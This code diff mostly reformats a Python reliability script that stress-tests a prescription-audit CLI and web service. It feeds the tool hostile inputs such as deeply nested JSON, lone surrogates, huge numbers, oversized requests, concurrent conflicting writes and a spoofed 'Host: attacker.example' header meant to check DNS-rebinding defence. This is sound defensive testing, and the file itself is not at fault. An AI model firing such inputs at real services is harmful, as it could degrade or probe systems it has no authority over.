-    ok = (comma["status"] == "error" and "2,5" in comma["error"] and again["status"] != "ok"
-          and "第3行" in " ".join(again.get("notes", [])))
-    out.append(Check("hostile", "warfarin dose '2,5'; 处方号 0002 again after another prescription", "4 rows",
-                     f"'2,5': {comma['status']} ({(comma['error'] or '')[-60:]}); second 0002: {again['status']}, "
-                     f"note: {' '.join(again.get('notes', []))[:60]}", ok))
+    ok = (
+        comma["status"] == "error"
+        and "2,5" in comma["error"]
+        and again["status"] != "ok"
+        and "第3行" in " ".join(again.get("notes", []))
+    )
+    out.append(
+        Check(
+            "hostile",
+            "warfarin dose '2,5'; 处方号 0002 again after another prescription",
+            "4 rows",
+            f"'2,5': {comma['status']} ({(comma['error'] or '')[-60:]}); second 0002: {again['status']}, "
+            f"note: {' '.join(again.get('notes', []))[:60]}",
+            ok,
+        )
+    )
     # JSONL lines that used to abort the batch
-    good = {"id": "A", "patient": {"age": 60, "diagnoses": [{"name": "高血压", "icd10": "I10"}]},
-            "prescription": {"items": [{"drug": "苯磺酸氨氯地平片", "dose": 5, "unit": "mg", "frequency": "qd",
-                                        "route": "口服", "days": 28}]}}
+    good = {
+        "id": "A",
+        "patient": {"age": 60, "diagnoses": [{"name": "高血压", "icd10": "I10"}]},
+        "prescription": {
+            "items": [
+                {
+                    "drug": "苯磺酸氨氯地平片",
+                    "dose": 5,
+                    "unit": "mg",
+                    "frequency": "qd",
+                    "route": "口服",
+                    "days": 28,
+                }
+            ]
+        },
+    }
     src = work / "hostile.jsonl"
-    src.write_text("\n".join([json.dumps(good), '{"id": "D", "x": ' + "[" * 5000 + "]" * 5000 + "}",
-                               json.dumps(good).replace('"A"', '"\\ud800"'), json.dumps({**good, "id": "Z"})]) + "\n",
-                   encoding="utf-8")
-    proc = subprocess.run([*CLINIC, "audit", str(src), "--format", "jsonl", "-o", str(work / "h.jsonl"),
-                           "--workers", "2", "--no-progress"], capture_output=True, text=True, cwd=ROOT, timeout=600)
+    src.write_text(
+        "\n".join(
+            [
+                json.dumps(good),
+                '{"id": "D", "x": ' + "[" * 5000 + "]" * 5000 + "}",
+                json.dumps(good).replace('"A"', '"\\ud800"'),
+                json.dumps({**good, "id": "Z"}),
+            ]
+        )
+        + "\n",
+        encoding="utf-8",
+    )
+    proc = subprocess.run(
+        [
+            *CLINIC,
+            "audit",
+            str(src),
+            "--format",
+            "jsonl",
+            "-o",
+            str(work / "h.jsonl"),
+            "--workers",
+            "2",
+            "--no-progress",
+        ],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=600,
+    )
     lines = journal(work / "h.jsonl") if (work / "h.jsonl").exists() else []
     ok = proc.returncode == 0 and [c["status"] for c in lines] == ["ok", "error", "error", "ok"]
-    out.append(Check("hostile", "JSONL: nesting 5,000 deep, lone surrogate in an id", "4 lines",
-                     f"exit {proc.returncode}; statuses {[c['status'] for c in lines]}", ok))
+    out.append(
+        Check(
+            "hostile",
+            "JSONL: nesting 5,000 deep, lone surrogate in an id",
+            "4 lines",
+            f"exit {proc.returncode}; statuses {[c['status'] for c in lines]}",
+            ok,
+        )
+    )
     # clinic extract: surrogate, nesting, 19,999 digits
     src = work / "texts.jsonl"
-    src.write_text("\n".join(['{"id": "\\ud800", "text": "头痛三天"}', '{"id": "d", "text": ' + "[" * 5000 + "]" * 5000
-                               + "}", json.dumps({"id": "n", "text": "血压" + "9" * 19_999 + "mmHg"})]) + "\n",
-                   encoding="utf-8")
+    src.write_text(
+        "\n".join(
+            [
+                '{"id": "\\ud800", "text": "头痛三天"}',
+                '{"id": "d", "text": ' + "[" * 5000 + "]" * 5000 + "}",
+                json.dumps({"id": "n", "text": "血压" + "9" * 19_999 + "mmHg"}),
+            ]
+        )
+        + "\n",
+        encoding="utf-8",
+    )
     t = time.perf_counter()
-    proc = subprocess.run([*CLINIC, "extract", str(src), "-o", str(work / "x.jsonl")], capture_output=True,
-                          text=True, cwd=ROOT, timeout=600)
+    proc = subprocess.run(
+        [*CLINIC, "extract", str(src), "-o", str(work / "x.jsonl")],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=600,
+    )
     secs = time.perf_counter() - t
     lines = journal(work / "x.jsonl") if (work / "x.jsonl").exists() else []
     ok = proc.returncode == 0 and len(lines) == 3 and all(x["error"] for x in lines) and secs < 30
-    out.append(Check("hostile", "clinic extract: lone surrogate, nesting, 19,999 digits", "3 lines",
-                     f"exit {proc.returncode} in {secs:.1f}s; errors: "
-                     + "; ".join((x["error"] or "")[:40] for x in lines), ok))
+    out.append(
+        Check(
+            "hostile",
+            "clinic extract: lone surrogate, nesting, 19,999 digits",
+            "3 lines",
+            f"exit {proc.returncode} in {secs:.1f}s; errors: "
+            + "; ".join((x["error"] or "")[:40] for x in lines),
+            ok,
+        )
+    )
     out += _check_hostile_service(work)
     return out
 
@@ -738,15 +1060,24 @@ def _check_hostile_service(work: Path) -> list[Check]:
         poller = threading.Thread(target=poll)
         poller.start()
         t = time.perf_counter()
-        r = httpx.post(url + "/v1/audit", content=body, headers={"content-type": "application/json"}, timeout=120)
+        r = httpx.post(
+            url + "/v1/audit", content=body, headers={"content-type": "application/json"}, timeout=120
+        )
         secs = time.perf_counter() - t
         done.set()
         poller.join()
         worst = max(health, default=0) * 1000
         ok = r.status_code == 422 and "limit of 100" in r.text and secs < 5 and worst < 1000
-        out.append(Check("hostile", "POST /v1/audit with 3,000 items; /healthz polled meanwhile",
-                         f"{len(body) / 1024:.0f} KB", f"{r.status_code} in {secs:.2f}s "
-                         f"({r.json()['detail'][0]['msg'][:60]}); slowest /healthz {worst:.0f} ms", ok))
+        out.append(
+            Check(
+                "hostile",
+                "POST /v1/audit with 3,000 items; /healthz polled meanwhile",
+                f"{len(body) / 1024:.0f} KB",
+                f"{r.status_code} in {secs:.2f}s "
+                f"({r.json()['detail'][0]['msg'][:60]}); slowest /healthz {worst:.0f} ms",
+                ok,
+            )
+        )
         # 20 concurrent conflicting decisions on one audit
         audit_id = httpx.post(url + "/v1/audit", json=CASE_BLOCK, timeout=30).headers["x-audit-id"]
         codes: list[int] = []
@@ -765,8 +1096,15 @@ def _check_hostile_service(work: Path) -> list[Check]:
             th.join()
         stored = httpx.get(f"{url}/v1/audits/{audit_id}/decisions", timeout=30).json()["decisions"]
         ok = sorted(codes) == [201] + [409] * 19 and len(stored) == 1
-        out.append(Check("hostile", "20 concurrent conflicting decisions on one audit", "20 requests",
-                         f"{codes.count(201)} × 201, {codes.count(409)} × 409; {len(stored)} stored", ok))
+        out.append(
+            Check(
+                "hostile",
+                "20 concurrent conflicting decisions on one audit",
+                "20 requests",
+                f"{codes.count(201)} × 201, {codes.count(409)} × 409; {len(stored)} stored",
+                ok,
+            )
+        )
         # a retry after a lost reply (same Idempotency-Key)
         audit_id = httpx.post(url + "/v1/audit", json=CASE_BLOCK, timeout=30).headers["x-audit-id"]
         body = {"decision": "return", "pharmacist": "药师甲", "reason": "请核对肾功能"}
@@ -775,35 +1113,70 @@ def _check_hostile_service(work: Path) -> list[Check]:
         retry = httpx.post(f"{url}/v1/audits/{audit_id}/decisions", json=body, headers=key, timeout=30)
         stored = httpx.get(f"{url}/v1/audits/{audit_id}/decisions", timeout=30).json()["decisions"]
         ok = first.status_code == 201 and retry.status_code == 200 and len(stored) == 1
-        out.append(Check("hostile", "decision retried with the same Idempotency-Key", "2 requests",
-                         f"{first.status_code} then {retry.status_code}; {len(stored)} stored", ok))
+        out.append(
+            Check(
+                "hostile",
+                "decision retried with the same Idempotency-Key",
+                "2 requests",
+                f"{first.status_code} then {retry.status_code}; {len(stored)} stored",
+                ok,
+            )
+        )
         # a pass of a block finding without a reason; DNS rebinding; a huge offset; two patients in FHIR
         audit_id = httpx.post(url + "/v1/audit", json=CASE_BLOCK, timeout=30).headers["x-audit-id"]
-        no_reason = httpx.post(f"{url}/v1/audits/{audit_id}/decisions", json={"decision": "pass",
-                                                                             "pharmacist": "药师甲"}, timeout=30)
+        no_reason = httpx.post(
+            f"{url}/v1/audits/{audit_id}/decisions",
+            json={"decision": "pass", "pharmacist": "药师甲"},
+            timeout=30,
+        )
         rebound = httpx.get(url + "/v1/review-queue", headers={"Host": "attacker.example"}, timeout=30)
         offset = httpx.get(url + "/v1/review-queue?offset=99999999999999999999", timeout=30)
 
         def mr(mid: str, subject: str) -> dict[str, Any]:
-            return {"resource": {"resourceType": "MedicationRequest", "id": mid, "status": "draft", "intent": "order",
-                                 "subject": {"reference": subject}, "medicationCodeableConcept": {"text": "缬沙坦胶囊"},
-                                 "dosageInstruction": [{"doseAndRate": [{"doseQuantity": {"value": 80,
-                                                                                          "unit": "mg"}}]}]}}
+            return {
+                "resource": {
+                    "resourceType": "MedicationRequest",
+                    "id": mid,
+                    "status": "draft",
+                    "intent": "order",
+                    "subject": {"reference": subject},
+                    "medicationCodeableConcept": {"text": "缬沙坦胶囊"},
+                    "dosageInstruction": [{"doseAndRate": [{"doseQuantity": {"value": 80, "unit": "mg"}}]}],
+                }
+            }
 
-        fhir = httpx.post(url + "/v1/fhir/audit", json={"resourceType": "Bundle", "type": "collection", "entry": [
-            mr("a", "Patient/p1"), mr("b", "Patient/p2")]}, timeout=30)
-        ok = (no_reason.status_code == 422 and rebound.status_code == 421 and offset.status_code == 400
-              and fhir.status_code == 422)
-        out.append(Check("hostile", "pass a 拦截 without reason / Host: attacker.example / offset=10^20 / "
-                         "FHIR Bundle for two patients", "4 requests",
-                         f"{no_reason.status_code} / {rebound.status_code} / {offset.status_code} / {fhir.status_code}",
-                         ok))
+        fhir = httpx.post(
+            url + "/v1/fhir/audit",
+            json={
+                "resourceType": "Bundle",
+                "type": "collection",
+                "entry": [mr("a", "Patient/p1"), mr("b", "Patient/p2")],
+            },
+            timeout=30,
+        )
+        ok = (
+            no_reason.status_code == 422
+            and rebound.status_code == 421
+            and offset.status_code == 400
+            and fhir.status_code == 422
+        )
+        out.append(
+            Check(
+                "hostile",
+                "pass a 拦截 without reason / Host: attacker.example / offset=10^20 / "
+                "FHIR Bundle for two patients",
+                "4 requests",
+                f"{no_reason.status_code} / {rebound.status_code} / {offset.status_code} / {fhir.status_code}",
+                ok,
+            )
+        )
     finally:
         server.kill()
     return out
 
 
 # --------------------------------------------------------------------------- report
+
 
 def write_markdown(checks: list[Check], path: Path, command: str, seconds: float, notes: list[str]) -> None:
     uname = platform.uname()
@@ -818,7 +1191,9 @@ def write_markdown(checks: list[Check], path: Path, command: str, seconds: float
         "|---|---|---|---|---|",
     ]
     for c in checks:
-        lines.append(f"| {c.area} | {c.check} | {c.size} | {c.result.replace('|', '/')} | {'yes' if c.ok else '**NO**'} |")
+        lines.append(
+            f"| {c.area} | {c.check} | {c.size} | {c.result.replace('|', '/')} | {'yes' if c.ok else '**NO**'} |"
+        )
     lines += ["", *[f"- {n}" for n in notes], ""]
     path.write_text("\n".join(lines), encoding="utf-8")
 
@@ -828,12 +1203,21 @@ _SECTION_START, _SECTION_END = "<!-- hostile:start -->", "<!-- hostile:end -->"
 
 def write_section(checks: list[Check], path: Path, command: str, seconds: float) -> None:
     """Write (or replace) the hostile-input section of RELIABILITY.md, keeping the rest of the file."""
-    lines = [_SECTION_START, "", "## Hostile and broken input (issue 16)", "",
-             f"Generated by `{command}` on {datetime.now(UTC):%Y-%m-%d %H:%M} UTC in {seconds / 60:.1f} min "
-             f"({os.cpu_count()} cores, shared with other jobs).", "",
-             "| area | check | size | result | pass |", "|---|---|---|---|---|"]
+    lines = [
+        _SECTION_START,
+        "",
+        "## Hostile and broken input (issue 16)",
+        "",
+        f"Generated by `{command}` on {datetime.now(UTC):%Y-%m-%d %H:%M} UTC in {seconds / 60:.1f} min "
+        f"({os.cpu_count()} cores, shared with other jobs).",
+        "",
+        "| area | check | size | result | pass |",
+        "|---|---|---|---|---|",
+    ]
     for c in checks:
-        lines.append(f"| {c.area} | {c.check} | {c.size} | {c.result.replace('|', '/')} | {'yes' if c.ok else '**NO**'} |")
+        lines.append(
+            f"| {c.area} | {c.check} | {c.size} | {c.result.replace('|', '/')} | {'yes' if c.ok else '**NO**'} |"
+        )
     lines += ["", _SECTION_END]
     section = "\n".join(lines)
     text = path.read_text(encoding="utf-8") if path.exists() else "# Reliability, measured\n"
@@ -850,8 +1234,12 @@ def main() -> None:
     ap.add_argument("--lines", type=int, default=1_000_000, help="lines for the kill/resume run")
     ap.add_argument("--file-lines", type=int, default=200_000, help="lines of each malformed-file run")
     ap.add_argument("--big-gb", type=float, default=2.0, help="size of the streamed file (0 = skip)")
-    ap.add_argument("--kill-after", type=float, default=0.0, help="seconds before SIGKILL (0: once a tenth of "
-                    "the output is written)")
+    ap.add_argument(
+        "--kill-after",
+        type=float,
+        default=0.0,
+        help="seconds before SIGKILL (0: once a tenth of the output is written)",
+    )
     ap.add_argument("--load-seconds", type=float, default=60)
     ap.add_argument("--connections", type=int, default=16)
     ap.add_argument("--audio-hours", type=float, default=2.0)
